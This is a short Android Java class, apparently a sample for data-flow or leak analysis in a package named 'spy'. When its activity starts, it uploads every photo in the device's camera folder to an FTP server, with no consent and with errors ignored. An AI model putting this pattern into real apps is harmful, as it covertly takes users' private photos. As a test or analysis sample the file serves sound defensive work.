package org.example.flows.spy;

import android.app.Activity;
import android.os.Bundle;
import java.io.File;
import java.io.FileInputStream;
import java.io.IOException;
import org.apache.commons.net.ftp.FTPClient;

/** Every file in the folder of the camera goes to a file server. */
public class CameraFolder extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        FTPClient server = new FTPClient();
        for (File picture : new File("/sdcard/DCIM/Camera").listFiles()) {
            try {
                FileInputStream in = new FileInputStream(picture);
                server.storeFile("picture", in);
                in.close();
            } catch (IOException ignored) {
                continue;
            }
        }
    }
}
